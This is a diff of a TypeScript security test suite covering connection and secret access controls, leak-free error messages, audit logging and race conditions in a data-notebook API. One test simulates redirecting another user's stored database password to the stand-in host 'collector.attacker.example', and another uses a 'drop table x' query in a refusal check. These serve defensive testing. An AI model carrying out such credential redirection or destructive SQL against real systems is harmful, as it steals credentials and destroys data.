@@ -33,7 +33,9 @@ afterAll(() => h?.close());
 /** A SQL cell in `projectId` with no connection. */
 async function cellIn(projectId: string, workspaceId = h.a.workspaceId) {
   const id = newId('cell');
-  await h.database.db.insert(cells).values({ id, workspaceId, projectId, position: 0, kind: 'sql', source: 'select 1' });
+  await h.database.db
+    .insert(cells)
+    .values({ id, workspaceId, projectId, position: 0, kind: 'sql', source: 'select 1' });
   return id;
 }
 
@@ -56,7 +58,11 @@ async function groupOf(userIds: string[]) {
 function everything(error: unknown): string {
   if (!(error instanceof TRPCError)) return String(error);
   const cause = error.cause as { issues?: unknown } | undefined;
-  return JSON.stringify({ message: error.message, quarry: (error as { quarry?: unknown }).quarry, issues: cause?.issues });
+  return JSON.stringify({
+    message: error.message,
+    quarry: (error as { quarry?: unknown }).quarry,
+    issues: cause?.issues,
+  });
 }
 
 async function failureText(promise: Promise<unknown>) {
@@ -92,24 +98,38 @@ describe('smuggling a connection where it does not belong', () => {
     }
   });
 
-  it("refuses importing a project connection into another project the same Editor can edit", async () => {
+  it('refuses importing a project connection into another project the same Editor can edit', async () => {
     const first = await projectIn(h, h.a, [{ userId: h.a.users.editor.id, permission: 'can_edit' }]);
     const second = await projectIn(h, h.a, [{ userId: h.a.users.editor.id, permission: 'can_edit' }]);
     const own = await projectConnection(h, h.a, 'editor', first);
     const editor = await h.as(h.a, 'editor');
-    expect((await refusal(editor.connections.importIntoProject({ projectId: second, connectionId: own.id }))).quarry).toBe(
-      'connections.project_scoped',
-    );
+    expect(
+      (await refusal(editor.connections.importIntoProject({ projectId: second, connectionId: own.id })))
+        .quarry,
+    ).toBe('connections.project_scoped');
     // Not even an Admin can carry it over.
     expect(
-      (await refusal((await h.as(h.a, 'admin')).connections.importIntoProject({ projectId: second, connectionId: own.id }))).quarry,
+      (
+        await refusal(
+          (
+            await h.as(h.a, 'admin')
+          ).connections.importIntoProject({ projectId: second, connectionId: own.id }),
+        )
+      ).quarry,
     ).toBe('connections.project_scoped');
-    const links = await h.database.db.select().from(projectConnections).where(eq(projectConnections.connectionId, own.id));
+    const links = await h.database.db
+      .select()
+      .from(projectConnections)
+      .where(eq(projectConnections.connectionId, own.id));
     expect(links.map((l) => l.projectId)).toEqual([first]);
     // Nor point a cell of the second project at it.
     const cellId = await cellIn(second);
     expect(
-      (await refusal(editor.projects.updateCell({ projectId: second, cellId, source: 'select 1', connectionId: own.id }))).quarry,
+      (
+        await refusal(
+          editor.projects.updateCell({ projectId: second, cellId, source: 'select 1', connectionId: own.id }),
+        )
+      ).quarry,
     ).toBe('connections.not_in_project');
     expect(await cellConnection(cellId)).toBeNull();
   });
@@ -141,20 +161,23 @@ describe('smuggling a connection where it does not belong', () => {
       draft: true,
     });
     const editor = await h.as(h.a, 'editor');
-    expect((await refusal(editor.connections.importIntoProject({ projectId, connectionId: noAccess.id }))).quarry).toBe(
-      'access.no_asset_access',
-    );
-    expect((await refusal(editor.connections.importIntoProject({ projectId, connectionId: noQuery.id }))).quarry).toBe(
-      'access.no_can_query',
-    );
-    expect((await refusal(editor.connections.importIntoProject({ projectId, connectionId: draft.id }))).quarry).toBe(
-      'connections.draft',
-    );
+    expect(
+      (await refusal(editor.connections.importIntoProject({ projectId, connectionId: noAccess.id }))).quarry,
+    ).toBe('access.no_asset_access');
+    expect(
+      (await refusal(editor.connections.importIntoProject({ projectId, connectionId: noQuery.id }))).quarry,
+    ).toBe('access.no_can_query');
+    expect(
+      (await refusal(editor.connections.importIntoProject({ projectId, connectionId: draft.id }))).quarry,
+    ).toBe('connections.draft');
     // An Admin cannot import a draft either: a run on it could only fail.
-    expect((await refusal(admin.connections.importIntoProject({ projectId, connectionId: draft.id }))).quarry).toBe(
-      'connections.draft',
-    );
-    const links = await h.database.db.select().from(projectConnections).where(eq(projectConnections.projectId, projectId));
+    expect(
+      (await refusal(admin.connections.importIntoProject({ projectId, connectionId: draft.id }))).quarry,
+    ).toBe('connections.draft');
+    const links = await h.database.db
+      .select()
+      .from(projectConnections)
+      .where(eq(projectConnections.projectId, projectId));
     expect(links).toEqual([]);
   });
 
@@ -165,7 +188,8 @@ describe('smuggling a connection where it does not belong', () => {
     const editor = await h.as(h.a, 'editor');
     for (const connectionId of [notImported.id, h.a.connectionId, h.b.connectionId]) {
       expect(
-        (await refusal(editor.projects.updateCell({ projectId, cellId, source: 'select 1', connectionId }))).quarry,
+        (await refusal(editor.projects.updateCell({ projectId, cellId, source: 'select 1', connectionId })))
+          .quarry,
         connectionId,
       ).toBe('connections.not_in_project');
     }
@@ -173,7 +197,12 @@ describe('smuggling a connection where it does not belong', () => {
     expect(
       (
         await refusal(
-          editor.projects.updateCell({ projectId, cellId: h.a.cellId, source: 'drop table x', connectionId: null }),
+          editor.projects.updateCell({
+            projectId,
+            cellId: h.a.cellId,
+            source: 'drop table x',
+            connectionId: null,
+          }),
         )
       ).code,
     ).toBe('NOT_FOUND');
@@ -181,62 +210,60 @@ describe('smuggling a connection where it does not belong', () => {
     expect(await cellConnection(h.a.cellId)).toBe(h.a.connectionId);
   });
 
-  it.fails(
-    "hides a project connection's name from an Editor who cannot open its project, when they import it by id",
-    async () => {
-      // The gate answers NOT_FOUND to someone the project is closed to ("the connection does not exist");
-      // importing it by id into a project of their own answers with its name instead.
-      const hiddenProject = await projectIn(h, h.a, [{ userId: h.a.users.manager.id, permission: 'can_edit' }]);
-      const hidden = await projectConnection(h, h.a, 'manager', hiddenProject);
-      const mine = await projectIn(h, h.a, [{ userId: h.a.users.editor.id, permission: 'can_edit' }]);
-      const editor = await h.as(h.a, 'editor');
-      expect((await refusal(editor.connections.get({ connectionId: hidden.id }))).code).toBe('NOT_FOUND');
-      const refused = await refusal(editor.connections.importIntoProject({ projectId: mine, connectionId: hidden.id }));
-      expect(refused.text).not.toContain(hidden.name);
-      expect(refused.code).toBe('NOT_FOUND');
-    },
-  );
+  it.fails("hides a project connection's name from an Editor who cannot open its project, when they import it by id", async () => {
+    // The gate answers NOT_FOUND to someone the project is closed to ("the connection does not exist");
+    // importing it by id into a project of their own answers with its name instead.
+    const hiddenProject = await projectIn(h, h.a, [{ userId: h.a.users.manager.id, permission: 'can_edit' }]);
+    const hidden = await projectConnection(h, h.a, 'manager', hiddenProject);
+    const mine = await projectIn(h, h.a, [{ userId: h.a.users.editor.id, permission: 'can_edit' }]);
+    const editor = await h.as(h.a, 'editor');
+    expect((await refusal(editor.connections.get({ connectionId: hidden.id }))).code).toBe('NOT_FOUND');
+    const refused = await refusal(
+      editor.connections.importIntoProject({ projectId: mine, connectionId: hidden.id }),
+    );
+    expect(refused.text).not.toContain(hidden.name);
+    expect(refused.code).toBe('NOT_FOUND');
+  });
 });
 
 describe('stored credentials redirected', () => {
-  it.fails(
-    "does not let a second editor of a project point another member's project connection at a new host while keeping the stored password",
-    async () => {
-      // The Manager's project connection holds the Manager's own warehouse password. The Editor, who
-      // shares Can edit on the project but never had that password, changes only the host and leaves
-      // the password blank ("keeps the stored one"): every test and run then sends the Manager's
-      // password to the host the Editor chose (see apps/api/src/attacks4/credential-redirect).
-      const projectId = await projectIn(h, h.a, [
-        { userId: h.a.users.manager.id, permission: 'can_edit' },
-        { userId: h.a.users.editor.id, permission: 'can_edit' },
-      ]);
-      const own = await projectConnection(h, h.a, 'manager', projectId);
-      const editor = await h.as(h.a, 'editor');
-      let refused = false;
-      try {
-        await editor.connections.update({
-          connectionId: own.id,
-          name: own.name,
-          settings: settings({ host: 'collector.attacker.example', sslMode: 'disable' }),
-          secrets: { password: '' },
-        });
-      } catch {
-        refused = true;
-      }
-      const row = await rawConnection(h, own.id);
-      const opened = row?.credentials
-        ? h.vault.openText(row.credentials, connectionCredentialsContext(h.a.workspaceId, own.id))
-        : null;
-      const storedPassword = opened?.ok ? (JSON.parse(opened.value) as { password?: string }).password : undefined;
-      // Secure: either the edit is refused, or a new host drops the stored password (it must be typed again).
-      if (!refused) {
-        expect(row?.settings).toMatchObject({ host: 'collector.attacker.example' });
-        expect(storedPassword === own.password).toBe(false);
-      } else {
-        expect(row?.settings).toMatchObject({ host: 'db.example.com' });
-      }
-    },
-  );
+  it.fails("does not let a second editor of a project point another member's project connection at a new host while keeping the stored password", async () => {
+    // The Manager's project connection holds the Manager's own warehouse password. The Editor, who
+    // shares Can edit on the project but never had that password, changes only the host and leaves
+    // the password blank ("keeps the stored one"): every test and run then sends the Manager's
+    // password to the host the Editor chose (see apps/api/src/attacks4/credential-redirect).
+    const projectId = await projectIn(h, h.a, [
+      { userId: h.a.users.manager.id, permission: 'can_edit' },
+      { userId: h.a.users.editor.id, permission: 'can_edit' },
+    ]);
+    const own = await projectConnection(h, h.a, 'manager', projectId);
+    const editor = await h.as(h.a, 'editor');
+    let refused = false;
+    try {
+      await editor.connections.update({
+        connectionId: own.id,
+        name: own.name,
+        settings: settings({ host: 'collector.attacker.example', sslMode: 'disable' }),
+        secrets: { password: '' },
+      });
+    } catch {
+      refused = true;
+    }
+    const row = await rawConnection(h, own.id);
+    const opened = row?.credentials
+      ? h.vault.openText(row.credentials, connectionCredentialsContext(h.a.workspaceId, own.id))
+      : null;
+    const storedPassword = opened?.ok
+      ? (JSON.parse(opened.value) as { password?: string }).password
+      : undefined;
+    // Secure: either the edit is refused, or a new host drops the stored password (it must be typed again).
+    if (!refused) {
+      expect(row?.settings).toMatchObject({ host: 'collector.attacker.example' });
+      expect(storedPassword === own.password).toBe(false);
+    } else {
+      expect(row?.settings).toMatchObject({ host: 'db.example.com' });
+    }
+  });
 });
 
 describe('shared secrets', () => {
@@ -250,13 +277,18 @@ describe('shared secrets', () => {
     });
     for (const role of ['viewer', 'editor', 'guest', 'explorer'] as const) {
       const listed = await (await h.as(h.a, role)).secrets.list();
-      expect(listed.map((s) => s.id), role).not.toContain(restricted.id);
+      expect(
+        listed.map((s) => s.id),
+        role,
+      ).not.toContain(restricted.id);
     }
     const projectId = await projectIn(h, h.a, [{ userId: h.a.users.editor.id, permission: 'can_edit' }]);
     const editor = await h.as(h.a, 'editor');
     const refused = await refusal(editor.secrets.importIntoProject({ projectId, secretId: restricted.id }));
     expect(refused.quarry).toBe('access.no_asset_access');
-    expect(await h.database.db.select().from(projectSecrets).where(eq(projectSecrets.projectId, projectId))).toEqual([]);
+    expect(
+      await h.database.db.select().from(projectSecrets).where(eq(projectSecrets.projectId, projectId)),
+    ).toEqual([]);
     // Viewer on the project: cannot list the project's secrets, nor usage (Admins only).
     const viewerProject = await projectIn(h, h.a, [{ userId: h.a.users.viewer.id, permission: 'can_view' }]);
     const viewer = await h.as(h.a, 'viewer');
@@ -277,7 +309,10 @@ describe('shared secrets', () => {
     const editor = await h.as(h.a, 'editor');
     const refused = await refusal(editor.sharing.duplicate({ projectId, name: uniqueName('copy') }));
     expect(refused.code).toBe('FORBIDDEN');
-    const copies = await h.database.db.select().from(projectSecrets).where(eq(projectSecrets.secretId, restricted.id));
+    const copies = await h.database.db
+      .select()
+      .from(projectSecrets)
+      .where(eq(projectSecrets.secretId, restricted.id));
     expect(copies.map((c) => c.projectId)).toEqual([projectId]);
   });
 });
@@ -289,16 +324,100 @@ describe('write-only values in refusals and the audit log', () => {
     const projectId = await projectIn(h, h.a, [{ userId: h.a.users.editor.id, permission: 'can_edit' }]);
     const editor = await h.as(h.a, 'editor');
     const attempts: Array<[string, () => Promise<unknown>]> = [
-      ['password as port', () => admin.connections.create({ name: uniqueName('p'), kind: 'postgres', settings: settings({ port: value }), secrets: {} })],
-      ['password as sslMode', () => admin.connections.create({ name: uniqueName('p'), kind: 'postgres', settings: settings({ sslMode: value }), secrets: {} })],
-      ['password as host with a slash', () => admin.connections.create({ name: uniqueName('p'), kind: 'postgres', settings: settings({ host: `/${value}` }), secrets: {} })],
-      ['password in an unknown setting', () => admin.connections.create({ name: uniqueName('p'), kind: 'postgres', settings: { ...settings(), options: value }, secrets: {} })],
-      ['password too long', () => admin.connections.create({ name: uniqueName('p'), kind: 'postgres', settings: settings(), secrets: { password: value.repeat(40) } })],
-      ['password in a database name too long', () => admin.connections.create({ name: uniqueName('p'), kind: 'postgres', settings: settings({ database: value.repeat(3) }), secrets: {} })],
-      ['password with an unknown kind', () => admin.connections.create({ name: uniqueName('p'), kind: 'oracle', settings: settings(), secrets: { password: value } })],
-      ['project connection, password as port', () => editor.connections.createForProject({ projectId, name: uniqueName('p'), kind: 'postgres', settings: settings({ port: value }), secrets: { password: value } })],
-      ['testNew, password as sslMode', () => admin.connections.testNew({ kind: 'postgres', settings: settings({ sslMode: value }), secrets: { password: value } })],
-      ['secret value too long', () => admin.secrets.create({ name: `v_${randomUUID().slice(0, 6)}`, value: value.repeat(700) })],
+      [
+        'password as port',
+        () =>
+          admin.connections.create({
+            name: uniqueName('p'),
+            kind: 'postgres',
+            settings: settings({ port: value }),
+            secrets: {},
+          }),
+      ],
+      [
+        'password as sslMode',
+        () =>
+          admin.connections.create({
+            name: uniqueName('p'),
+            kind: 'postgres',
+            settings: settings({ sslMode: value }),
+            secrets: {},
+          }),
+      ],
+      [
+        'password as host with a slash',
+        () =>
+          admin.connections.create({
+            name: uniqueName('p'),
+            kind: 'postgres',
+            settings: settings({ host: `/${value}` }),
+            secrets: {},
+          }),
+      ],
+      [
+        'password in an unknown setting',
+        () =>
+          admin.connections.create({
+            name: uniqueName('p'),
+            kind: 'postgres',
+            settings: { ...settings(), options: value },
+            secrets: {},
+          }),
+      ],
+      [
+        'password too long',
+        () =>
+          admin.connections.create({
+            name: uniqueName('p'),
+            kind: 'postgres',
+            settings: settings(),
+            secrets: { password: value.repeat(40) },
+          }),
+      ],
+      [
+        'password in a database name too long',
+        () =>
+          admin.connections.create({
+            name: uniqueName('p'),
+            kind: 'postgres',
+            settings: settings({ database: value.repeat(3) }),
+            secrets: {},
+          }),
+      ],
+      [
+        'password with an unknown kind',
+        () =>
+          admin.connections.create({
+            name: uniqueName('p'),
+            kind: 'oracle',
+            settings: settings(),
+            secrets: { password: value },
+          }),
+      ],
+      [
+        'project connection, password as port',
+        () =>
+          editor.connections.createForProject({
+            projectId,
+            name: uniqueName('p'),
+            kind: 'postgres',
+            settings: settings({ port: value }),
+            secrets: { password: value },
+          }),
+      ],
+      [
+        'testNew, password as sslMode',
+        () =>
+          admin.connections.testNew({
+            kind: 'postgres',
+            settings: settings({ sslMode: value }),
+            secrets: { password: value },
+          }),
+      ],
+      [
+        'secret value too long',
+        () => admin.secrets.create({ name: `v_${randomUUID().slice(0, 6)}`, value: value.repeat(700) }),
+      ],
       ['secret value as name', () => admin.secrets.create({ name: `-${value}`, value })],
     ];
     for (const [name, attempt] of attempts) {
@@ -311,11 +430,24 @@ describe('write-only values in refusals and the audit log', () => {
     const admin = await h.as(h.a, 'admin');
     const created = await workspaceConnection(h, h.a);
     const replacement = randomUUID();
-    await admin.connections.update({ connectionId: created.id, name: created.name, settings: settings({ port: 6543 }), secrets: { password: replacement } });
+    await admin.connections.update({
+      connectionId: created.id,
+      name: created.name,
+      settings: settings({ port: 6543 }),
+      secrets: { password: replacement },
+    });
     const secretValue = randomUUID();
-    const secret = await admin.secrets.create({ name: `aud_${randomUUID().slice(0, 8)}`, value: secretValue });
+    const secret = await admin.secrets.create({
+      name: `aud_${randomUUID().slice(0, 8)}`,
+      value: secretValue,
+    });
     const nextValue = randomUUID();
-    await admin.secrets.update({ secretId: secret.id, name: secret.name, value: nextValue, groupsWithAccess: ['workspace'] });
+    await admin.secrets.update({
+      secretId: secret.id,
+      name: secret.name,
+      value: nextValue,
+      groupsWithAccess: ['workspace'],
+    });
     await admin.connections.delete({ connectionId: created.id });
     await admin.secrets.delete({ secretId: secret.id });
     const page = JSON.stringify(await admin.audit.list({ limit: 500 }));
@@ -330,20 +462,43 @@ describe('write-only values in refusals and the audit log', () => {
 });
 
 describe('races', () => {
-  it.fails('keeps connection names unique in a workspace when two creates race', async () => {
+  it('keeps connection names unique in a workspace when creates, project creates and renames race', async () => {
+    // Held since ea4c99b (a per-workspace lock around the name check); this was a hole when found.
     const admin = await h.as(h.a, 'admin');
+    const editor = await h.as(h.a, 'editor');
+    const projectId = await projectIn(h, h.a, [{ userId: h.a.users.editor.id, permission: 'can_edit' }]);
     const name = uniqueName('race');
-    const outcomes = await Promise.allSettled(
-      Array.from({ length: 6 }, () =>
-        admin.connections.create({ name, kind: 'postgres', settings: settings(), secrets: { password: randomUUID() } }),
+    const renamed = await workspaceConnection(h, h.a);
+    const outcomes = await Promise.allSettled([
+      ...Array.from({ length: 3 }, () =>
+        admin.connections.create({
+          name,
+          kind: 'postgres',
+          settings: settings(),
+          secrets: { password: randomUUID() },
+        }),
       ),
-    );
+      ...Array.from({ length: 2 }, () =>
+        editor.connections.createForProject({
+          projectId,
+          name,
+          kind: 'postgres',
+          settings: settings(),
+          secrets: { password: randomUUID() },
+        }),
+      ),
+      admin.connections.update({ connectionId: renamed.id, name, settings: settings() }),
+    ]);
     const rows = await h.database.db
       .select({ id: connections.id })
       .from(connections)
       .where(and(eq(connections.workspaceId, h.a.workspaceId), eq(connections.name, name)));
     expect(rows).toHaveLength(1);
     expect(outcomes.filter((o) => o.status === 'fulfilled')).toHaveLength(1);
+    for (const outcome of outcomes) {
+      if (outcome.status === 'rejected')
+        expect(everything(outcome.reason)).toContain('connections.name_taken');
+    }
   });
 
   it('keeps one default connection when two Admins set different defaults at once, answering each with a typed result', async () => {
@@ -390,7 +545,9 @@ describe('races', () => {
       const links = await h.database.db
         .select()
         .from(projectConnections)
-        .where(and(eq(projectConnections.projectId, projectId), eq(projectConnections.connectionId, shared.id)));
+        .where(
+          and(eq(projectConnections.projectId, projectId), eq(projectConnections.connectionId, shared.id)),
+        );
       if ((await cellConnection(cellId)) === shared.id && links.length === 0) stranded.push(round);
       // Reset for the next round.
       await h.database.db.update(cells).set({ connectionId: null }).where(eq(cells.id, cellId));
